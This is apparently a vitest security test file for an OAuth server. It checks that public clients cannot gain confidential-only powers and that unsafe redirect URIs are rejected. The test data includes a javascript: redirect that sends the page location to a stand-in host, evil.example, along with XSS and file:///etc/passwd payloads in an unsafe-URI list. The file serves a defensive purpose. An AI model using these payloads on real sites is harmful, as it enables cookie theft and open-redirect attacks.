import * as client from 'openid-client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Client } from '../../src/domain/clients.js';
import { BACKENDS } from '../helpers/backends.js';
import { ORDERS_API, basic, discoverAs, postForm, registerMachineClient } from '../helpers/oauth.js';
import { snapshotState } from '../helpers/snapshot.js';
import { ROOT_KEY, expectStatus, seedTenant, startTestServer, type TestServer } from '../helpers/server.js';
import { runCli } from '../cli/run-cli.js';

const TOKEN_EXCHANGE = 'urn:ietf:params:oauth:grant-type:token-exchange';
const CALLBACK = 'http://127.0.0.1:9/callback';
const LEGACY_REDIRECT = 'javascript:fetch(`//evil.example/?`+location)';

/**
 * Invariants 5 and 6 (issue 7). A public client (`tokenEndpointAuthMethod: "none"`) proves
 * nothing about who calls, so it holds no confidential-only power — introspection, token
 * exchange, client credentials — neither at registration and update nor at use, even when a
 * store holds one registered before the rule. Redirect URIs are https:, http: to loopback, or
 * private-use schemes in reverse-domain form; nothing else is registered.
 */
describe.each(BACKENDS)('clients: public means public, redirect URIs are safe (%s)', (backend) => {
  let t: TestServer;
  let api: string;
  let issuer: string;
  let publicId: string;
  let machine: { clientId: string; clientSecret: string };
  let machineToken: string;

  const snapshot = (): Promise<string> => snapshotState(t);
  const publicApp = (body: Record<string, unknown> = {}) => ({
    name: 'Phone app',
    grantTypes: ['authorization_code', 'refresh_token'],
    tokenEndpointAuthMethod: 'none',
    redirectUris: [CALLBACK],
    scopes: { [api]: ['read:users'] },
    ...body,
  });

  beforeAll(async () => {
    t = await startTestServer(backend);
    ({ api } = await seedTenant(t));
    issuer = (await t.call('GET', '/v1/tenants/acme')).body.issuer;
    const created = await t.call('POST', '/v1/tenants/acme/clients', publicApp());
    expectStatus(created, 201);
    publicId = created.body.clientId;
    machine = (await registerMachineClient(t)) as typeof machine;
    const issued = await postForm(t, '/t/acme/oauth/token', { grant_type: 'client_credentials', resource: ORDERS_API }, { authorization: basic(machine.clientId, machine.clientSecret) });
    expectStatus(issued, 200);
    machineToken = issued.body.access_token;
  });
  afterAll(() => t.close());

  describe('public clients hold no confidential-only power', () => {
    it.each([
      ['canIntrospect', { canIntrospect: true }],
      ['token exchange', { grantTypes: ['authorization_code', TOKEN_EXCHANGE] }],
      ['client credentials', { grantTypes: ['client_credentials'] }],
    ])('refuses registering a public client with %s (INVALID_CLIENT_METADATA), and nothing changes', async (_power, body) => {
      const before = await snapshot();
      const response = await t.call('POST', '/v1/tenants/acme/clients', publicApp(body));
      expect(response.status).toBe(400);
      expect(response.body.code).toBe('INVALID_CLIENT_METADATA');
      expect(await snapshot()).toBe(before);
    });

    it.each([
      ['canIntrospect', { canIntrospect: true }],
      ['token exchange', { grantTypes: [TOKEN_EXCHANGE] }],
    ])('refuses giving an existing public client %s by update, and nothing changes', async (_power, body) => {
      const before = await snapshot();
      const response = await t.call('PATCH', `/v1/tenants/acme/clients/${publicId}`, body);
      expect(response.status).toBe(400);
      expect(response.body.code).toBe('INVALID_CLIENT_METADATA');
      expect(await snapshot()).toBe(before);
    });

    it('refuses it through the CLI as well', async () => {
      const run = await runCli(['client', 'create', '--tenant', 'acme', '--name', 'cli-app', '--auth-method', 'none', '--grant', 'authorization_code', '--scope', `${api}=read:users`, '--can-introspect'], {
        env: { KEYGATE_URL: t.url, KEYGATE_ROOT_KEY: ROOT_KEY },
      });
      expect(run.code).not.toBe(0);
      expect(run.stderr).toContain('INVALID_CLIENT_METADATA');
    });

    describe('a public client stored with such powers before the rule (legacy data) is refused at use', () => {
      let legacy: client.Configuration;

      beforeAll(async () => {
        const { keygate } = t.server;
        const tenant = (await keygate.directory.tenant('acme'))!;
        const stored = (await keygate.store.directory.findClient(tenant.id, publicId)) as Client;
        const widened: Client = {
          ...stored,
          canIntrospect: true,
          grantTypes: [...stored.grantTypes, 'client_credentials', TOKEN_EXCHANGE],
          scopes: { [api]: ['read:users'], [ORDERS_API]: ['read:orders'] },
          redirectUris: [...stored.redirectUris, LEGACY_REDIRECT],
        };
        // Written straight into the store, past the registration checks, as an old version would have.
        await keygate.store.directory.updateClient(widened, keygate.audit.event(tenant.id, { id: 'legacy', requestId: null, ip: null }, 'client.update', publicId));
        await keygate.directory.changed([publicId]);
        legacy = await discoverAs(issuer, publicId, { redirectUri: CALLBACK });
      });

      it("introspection: invalid_client, not another client's token", async () => {
        const before = await snapshot();
        await expect(client.tokenIntrospection(legacy, machineToken)).rejects.toMatchObject({ error: 'invalid_client', status: 401 });
        expect(await snapshot()).toBe(before);
        // The token is live: a confidential client with the permission does see it.
        const auditor = (await registerMachineClient(t, { canIntrospect: true })) as typeof machine;
        expect((await postForm(t, '/t/acme/oauth/introspect', { token: machineToken }, { authorization: basic(auditor.clientId, auditor.clientSecret) })).body.active).toBe(true);
      });

      it('authorization: a stored javascript: redirect URI gets an error page, never a redirect', async () => {
        const query = new URLSearchParams({ client_id: publicId, redirect_uri: LEGACY_REDIRECT, response_type: 'code', scope: 'read:users', code_challenge: 'a'.repeat(43), code_challenge_method: 'S256' });
        const before = await snapshot();
        const response = await fetch(`${issuer}/oauth/authorize?${query}`, { redirect: 'manual' });
        expect(response.status).toBe(400);
        expect(response.headers.get('location')).toBeNull();
        expect(await snapshot()).toBe(before);
      });

      it('client credentials: unauthorized_client, no token', async () => {
        await expect(client.clientCredentialsGrant(legacy, { resource: ORDERS_API })).rejects.toMatchObject({ error: 'unauthorized_client' });
      });

      it('token exchange: unauthorized_client, no token', async () => {
        await expect(
          client.genericGrantRequest(legacy, TOKEN_EXCHANGE, { subject_token: machineToken, subject_token_type: 'urn:ietf:params:oauth:token-type:access_token', resource: ORDERS_API }),
        ).rejects.toMatchObject({ error: 'unauthorized_client' });
      });
    });
  });

  describe('redirect URIs', () => {
    const UNSAFE = [
      'javascript:alert(document.cookie)',
      'JavaScript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'file:///etc/passwd',
      'vbscript:msgbox(1)',
      'blob:https://app.example/4f1c',
      'about:blank',
      'filesystem:https://app.example/temporary/x',
      'ws://127.0.0.1/cb',
      'myapp:/callback',
      'http://app.example/callback',
      'http://127.0.0.1.evil.example/callback',
      'http://localhost.evil.example/callback',
      'https://app.example/callback#fragment',
      'https://app.example/callback#',
      'https://user:password@app.example/callback',
      '/relative/callback',
    ];

    let appId: string;

    beforeAll(async () => {
      const created = await t.call('POST', '/v1/tenants/acme/clients', publicApp({ name: 'Web app' }));
      expectStatus(created, 201);
      appId = created.body.clientId;
    });

    it.each(UNSAFE)('refuses %s at registration and update, and nothing changes', async (uri) => {
      const before = await snapshot();
      const created = await t.call('POST', '/v1/tenants/acme/clients', publicApp({ redirectUris: [CALLBACK, uri] }));
      expect(created.status).toBe(400);
      expect(created.body.code).toBe('INVALID_CLIENT_METADATA');
      expect(created.body.detail).toContain('redirect URI');
      const updated = await t.call('PATCH', `/v1/tenants/acme/clients/${appId}`, { redirectUris: [uri] });
      expect(updated.status).toBe(400);
      expect(updated.body.code).toBe('INVALID_CLIENT_METADATA');
      expect(updated.body.detail).toContain('redirect URI');
      expect(await snapshot()).toBe(before);
    });

    it('accepts https:, http: to loopback, and private-use schemes in reverse-domain form (RFC 8252 §7.1)', async () => {
      const safe = ['https://app.example/callback', 'http://127.0.0.1:8080/cb', 'http://[::1]/cb', 'http://localhost:3000/cb', 'com.example.app:/oauth/callback', 'com.example.app://callback'];
      const created = await t.call('POST', '/v1/tenants/acme/clients', publicApp({ redirectUris: safe }));
      expectStatus(created, 201);
      expect(created.body.redirectUris).toEqual(safe);
    });
  });
});
